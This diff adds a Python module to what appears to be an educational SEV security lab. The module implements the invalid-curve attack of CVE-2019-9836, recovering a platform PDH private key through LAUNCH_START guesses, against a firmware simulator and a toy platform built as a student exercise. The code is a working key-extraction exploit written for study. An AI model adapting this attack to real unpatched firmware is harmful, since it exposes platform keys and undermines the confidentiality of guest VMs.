@@ -1,0 +1,381 @@
+"""A01: the private number of a platform's PDH, learnt from a firmware that does not check the owner's point.
+
+LAUNCH_START multiplies the owner's point with the private number k. A point of small order r has only r multiples, and
+of these a point and its opposite share their x: so Z has about r/2 values, and the owner can try them all. A wrong
+guess fails at wrap_mac, so each guess is one LAUNCH_START. It gives k modulo r, up to its sign. The squares of these
+residues have no sign. The Chinese remainder theorem joins them to k**2, once the product of the orders is larger.
+
+``points.json`` holds 129 points of small prime order on curves y**2 = x**3 - 3x + b over the field of P-384, with other
+b than P-384's, of the orders 3 to 997, 1022 bits in all. They were computed for sevlab: the points of 287 random curves
+were counted (PARI), each with its twist, and a random point was multiplied by the number of points over the prime.
+Counting takes hours; that a point has its order is checked in milliseconds.
+
+The toy platform has a field so small that such points are found while you wait. The order of a random point divides a
+number within 2 * sqrt(prime) of prime + 1 (Hasse), which baby steps and giant steps find (Shanks). If a small prime
+divides that, a multiple of the point has this prime for its order.
+
+Source: CVE-2019-9836; incidents A01; sev-launch 3 and 6.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from dataclasses import dataclass
+from functools import cache
+from math import isqrt, prod
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+from ...attestation.session import (
+    KEY_SIZE,
+    Z_SIZE,
+    derive_session_keys,
+    godh_certificate,
+    make_private,
+    public_key,
+    wrap_keys,
+)
+from ...errors import InputError
+from ...formats.policy import Policy
+from ...formats.sev_certs import P384, P384_BYTES, PDH, SCALAR, EccKey
+from ...launch.keys import Secret
+from ...layout.span import Explainable
+from ...layout.views import Banner, Table, View
+from ...simulator.curve import PRIME, add, multiply
+from ...simulator.memory import FirmwareError, demand
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterable, Sequence
+
+    from ...formats.sev_certs import SevCertificate
+    from ...simulator.platform import Platform
+
+
+#: Where the points are.
+FILE = Path(__file__).with_name("points.json")
+
+
+@dataclass(frozen=True, order=True, repr=False)
+class SmallPoint:
+    """A point (x, y) of the curve with this b; adding it *order* times gives the point at infinity."""
+
+    order: int
+    b: int
+    x: int
+    y: int
+
+    @property
+    def xy(self) -> tuple[int, int]:
+        """The point as :mod:`sevlab.simulator.curve` takes it."""
+        return self.x, self.y
+
+    @property
+    def key(self) -> EccKey:
+        """The point as a certificate holds it, which says that it is one of P-384 (0x404 bytes)."""
+        qx, qy = (number.to_bytes(SCALAR, "little") for number in self.xy)
+        return EccKey(curve=P384, qx=qx, qy=qy)
+
+    def is_on_curve(self, prime: int = PRIME) -> bool:
+        """Whether y**2 = x**3 - 3x + b, modulo *prime*."""
+        return (self.y**2 - self.x**3 + 3 * self.x - self.b) % prime == 0
+
+    def __repr__(self) -> str:
+        return f"<point of order {self.order}, x = {self.x:x}>"
+
+
+def load_points() -> list[SmallPoint]:
+    """Return the points that come with sevlab, by rising order."""
+    stored = json.loads(FILE.read_text(encoding="ascii"))["points"]
+    points = (SmallPoint(one["order"], *(int(one[name], 16) for name in ("b", "x", "y"))) for one in stored)
+    return sorted(points)
+
+
+#: Bits of the square of a private number of P-384: so many must the orders have together.
+SQUARE_BITS = 2 * 8 * P384_BYTES
+
+#: How many residues a page shows from the beginning, and from the end.
+_SHOWN, _LAST = 8, 3
+
+
+@dataclass(frozen=True)
+class Residue:
+    """The private number modulo *order* is *value* or ``-value``; that took *tried* guesses."""
+
+    order: int
+    value: int
+    tried: int
+
+
+def learn_residue(point: SmallPoint, guess: Callable[[int], bool], prime: int = PRIME) -> Residue:
+    """Try the multiples of a point until *guess* takes one; when it takes none, the order divides the private number.
+
+    *guess* is told the x coordinate of a multiple, and says whether the platform computed that one.
+    """
+    multiple = None
+    for value in range(1, point.order // 2 + 1):
+        multiple = add(multiple, point.xy, prime)
+        if multiple is not None and guess(multiple[0]):
+            return Residue(point.order, value, value)
+    return Residue(point.order, 0, point.order // 2)
+
+
+def join_residues(residues: Iterable[Residue]) -> int | None:
+    """Return the number that leaves these residues, but for their signs; None when they are too few to tell.
+
+    The smallest number that leaves all the squares is the square looked for, as soon as the product of the orders (all
+    of them different primes) is larger than it. With fewer residues it hardly ever is a square, and never rightly so:
+    compare what comes out with the public key.
+    """
+    square, modulus = 0, 1
+    for one in residues:
+        square += modulus * ((one.value**2 - square) * pow(modulus, -1, one.order) % one.order)
+        modulus *= one.order
+    number = isqrt(square)
+    return number if number and number * number == square else None
+
+
+class PdhTheft(Explainable):
+    """What came of trying to take the private number of a platform's PDH.
+
+    ``private`` is the number (48 bytes, big-endian), None when it was not found; ``residues`` are what was learnt;
+    ``launches`` is how many LAUNCH_STARTs that took; ``caught`` is the firmware's refusal, if there was one.
+    """
+
+    def __init__(self, certificate: SevCertificate) -> None:
+        self.certificate = certificate
+        self.private: Secret | None = None
+        self.residues: list[Residue] = []
+        self.launches = 0
+        self.caught: FirmwareError | None = None
+
+    @property
+    def bits(self) -> int:
+        """How many bits the product of the orders has."""
+        return int(prod(residue.order for residue in self.residues)).bit_length()
+
+    def join(self, count: int | None = None) -> Secret | None:
+        """Return the private number of the certificate, from the first *count* residues (all, without it); or None."""
+        number = join_residues(self.residues[:count])
+        if number is None or number.bit_length() > 8 * P384_BYTES:
+            return None
+        private = Secret(number.to_bytes(P384_BYTES, "big"))
+        return private if public_key(private) == self.certificate.key else None
+
+    def explain(self) -> View:
+        """Show the answer, and what each point told. The private number stays hidden."""
+        words = f"{self.launches} LAUNCH_START{'s' * (self.launches != 1)}"
+        if self.caught is not None:
+            return View(Banner(f"REFUSED after {words}: {self.caught}", "green"))
+        words += f" with {len(self.residues)} points"
+        found = self.private is not None
+        answer = (
+            "they give the private number of the PDH" if found else "the private number is not among what they tell"
+        )
+        rows, product = [], 1
+        for number, residue in enumerate(self.residues, 1):
+            product *= residue.order
+            known = f"k = {residue.value} or -{residue.value}" if residue.value else "k = 0"
+            row = [str(number), str(residue.order), f"{known} (mod {residue.order})", str(residue.tried)]
+            rows.append([*row, str(product.bit_length())])
+        if len(rows) > _SHOWN + _LAST:
+            rows = [*rows[:_SHOWN], ["...", "", "", "", ""], *rows[-_LAST:]]
+        header = [
+            "point",
+            "order",
+            "what it tells",
+            "LAUNCH_STARTs",
+            f"bits of all orders' product ({SQUARE_BITS} needed)",
+        ]
+        return View(
+            Banner(f"{words}: {answer}", "pink" if found else "grey"), Table(header, rows, mono=[0, 1, 2, 3, 4])
+        )
+
+
+class Guesser:
+    """The attacker as an owner: for each guessed Z it sends a session, and sees whether wrap_mac was right."""
+
+    def __init__(self, platform: Platform, point: SmallPoint, theft: PdhTheft) -> None:
+        self.platform, self.theft = platform, theft
+        self.godh = godh_certificate(make_private()).replace(key=point.key).to_bytes()
+
+    def __call__(self, x: int) -> bool:
+        keys = derive_session_keys(x.to_bytes(Z_SIZE, "big"), bytes(KEY_SIZE))
+        session = wrap_keys(keys, bytes(KEY_SIZE), bytes(KEY_SIZE), bytes(KEY_SIZE), Policy(0))
+        self.theft.launches += 1
+        try:
+            handle = self.platform.launch_start(0, self.godh, session.to_bytes())
+        except FirmwareError as refusal:
+            if refusal.name == "BAD_MEASUREMENT":
+                return False
+            raise
+        self.platform.decommission(handle)
+        return True
+
+
+def steal_pdh(platform: Platform, points: Sequence[SmallPoint] | None = None) -> PdhTheft:
+    """Take the private number of a platform's PDH, with nothing but LAUNCH_START and DECOMMISSION. Never raises.
+
+    *points* are those of :func:`load_points` unless others are given; so many are used as are
+    needed.
+    """
+    theft = PdhTheft(platform.pdh_cert_export()[PDH])
+    try:
+        for point in load_points() if points is None else points:
+            theft.residues.append(learn_residue(point, Guesser(platform, point, theft)))
+            if theft.bits > SQUARE_BITS:
+                break
+    except FirmwareError as refusal:
+        theft.caught = refusal
+        return theft
+    theft.private = theft.join()
+    return theft
+
+
+#: The prime of the field, unless somebody chooses another: 2**32 - 5.
+TOY_PRIME = 4294967291
+
+#: Below this a prime is; above it the search for points takes minutes.
+TOY_LIMIT = 1 << 48
+
+#: b of the toy platform's own curve, and the largest order that is looked for. P-384 itself has a prime number of
+#: points; of this curve nobody counted them.
+TOY_B, LARGEST = 7, 199
+
+
+class ToyPlatform:
+    """A platform over a small field. ``launch_start`` is all it does; ``launches`` counts.
+
+    *private* is its private number, 1 to *prime*; *checks* says whether it looks at the point first, and refuses it as
+    a firmware does. Raises :class:`~sevlab.errors.InputError` for numbers that cannot be.
+    """
+
+    def __init__(self, private: int, prime: int = TOY_PRIME, *, checks: bool = False) -> None:
+        self.prime, self.checks, self.launches = check_prime(prime), checks, 0
+        if not 0 < private <= prime:
+            raise InputError("private", str(private), f"a number from 1 to {prime}")
+        self._private = private
+
+    def launch_start(self, point: tuple[int, int], guessed: bytes) -> bool:
+        """Multiply the owner's point; say whether *guessed* (32 bytes) is the SHA-256 of the x that came out."""
+        self.launches += 1
+        x, y = point
+        right = not self.checks or (y * y - x**3 + 3 * x - TOY_B) % self.prime == 0
+        demand(right, "INVALID_CERTIFICATE", "the owner's key is no point of the curve")
+        product = multiply(point, self._private, self.prime)
+        return seal(product[0] if product else 0) == guessed
+
+
+def seal(x: int) -> bytes:
+    """Return what stands for wrap_mac here: SHA-256 (32 bytes) of x as 8 bytes, big-endian."""
+    return hashlib.sha256(x.to_bytes(8, "big")).digest()
+
+
+def check_prime(prime: int) -> int:
+    """Return a prime that can be used here; raises :class:`~sevlab.errors.InputError` for any other number."""
+    needed = f"a prime that leaves 3 when divided by 4, from 1003 to 2**{TOY_LIMIT.bit_length() - 1}"
+    if not 1000 < prime < TOY_LIMIT or prime % 4 != 3 or not _is_prime(prime):
+        raise InputError("prime", str(prime), needed, str(TOY_PRIME))
+    return prime
+
+
+@cache
+def _is_prime(odd: int) -> bool:
+    return all(odd % divisor for divisor in range(3, isqrt(odd) + 1, 2))
+
+
+def find_points(prime: int = TOY_PRIME) -> list[SmallPoint]:
+    """Return points of different small prime orders, whose product is larger than the square of any private number.
+
+    The same prime gives the same points. Raises :class:`~sevlab.errors.InputError` for what is no such prime.
+    """
+    check_prime(prime)
+    wanted = [number for number in range(3, LARGEST + 1, 2) if _is_prime(number)]
+    found: dict[int, SmallPoint] = {}
+    product, b = 1, 2  # y**2 = x**3 - 3x + 2 and - 2 have a double point: they are no curves
+    while product <= prime * prime:
+        b += 1
+        if b == TOY_B:
+            continue
+        xy = _point(b, prime)
+        number = _multiple(xy, prime)
+        for order in wanted:
+            if order in found or number % order:
+                continue
+            small = _of_order(xy, number, order, prime)
+            if small is not None:
+                found[order] = SmallPoint(order, b, *small)
+                product *= order
+    return sorted(found.values())
+
+
+def _point(b: int, prime: int) -> tuple[int, int]:
+    """Return a point of the curve with this b: the first with x from 1 whose y is not 0."""
+    x = 0
+    while True:
+        x += 1
+        square = (x**3 - 3 * x + b) % prime
+        y = pow(square, (prime + 1) // 4, prime)
+        if y and y * y % prime == square:
+            return x, y
+
+
+def _multiple(point: tuple[int, int], prime: int) -> int:
+    """Return a number within 2 * sqrt(prime) of prime + 1 that takes the point to infinity."""
+    steps = isqrt(2 * isqrt(prime)) + 2
+    babies: dict[int, int] = {}
+    baby = None
+    for count in range(1, steps + 1):
+        baby = add(baby, point, prime)
+        if baby is None:
+            return count * ((prime + 1) // count)
+        babies[baby[0]] = count
+    stride = multiply(point, 2 * steps + 1, prime)
+    first = prime + 1 - 2 * isqrt(prime) - 1
+    giant = multiply(point, first, prime)
+    for number in range(first, prime + 2 + 2 * isqrt(prime) + 2 * steps + 1, 2 * steps + 1):
+        if giant is None:
+            return number
+        near = babies.get(giant[0], 0)
+        for candidate in (number - near, number + near):
+            if near and multiply(point, candidate, prime) is None:
+                return candidate
+        giant = add(giant, stride, prime)
+    raise AssertionError("every point's order divides a number in this range")
+
+
+def _of_order(point: tuple[int, int], number: int, order: int, prime: int) -> tuple[int, int] | None:
+    """Return a multiple of the point that has this prime order, None when there is none."""
+    while number % order == 0:
+        number //= order
+    multiple = multiply(point, number, prime)
+    while multiple is not None:
+        following = multiply(multiple, order, prime)
+        if following is None:
+            return multiple
+        multiple = following
+    return None
+
+
+def steal_toy(platform: ToyPlatform, points: list[SmallPoint] | None = None) -> tuple[int | None, list[Residue]]:
+    """Return a toy platform's private number, None when it cannot be told, and the residues that were learnt.
+
+    Raises :class:`~sevlab.simulator.memory.FirmwareError` when the platform looks at the points.
+    """
+    residues = []
+    for point in find_points(platform.prime) if points is None else points:
+
+        def guess(x: int, xy: tuple[int, int] = point.xy) -> bool:
+            return platform.launch_start(xy, seal(x))
+
+        residues.append(learn_residue(point, guess, platform.prime))
+    return join_residues(residues), residues
+
+
+#: What nobody wrote down of a toy platform; students find it.
+LOST_PRIVATE = int.from_bytes(hashlib.sha256(b"a toy platform").digest()[:4], "big") % (TOY_PRIME - 1) + 1
+
+
+def lost_platform() -> ToyPlatform:
+    """Return a toy platform whose private number nobody wrote down."""
+    return ToyPlatform(LOST_PRIVATE)
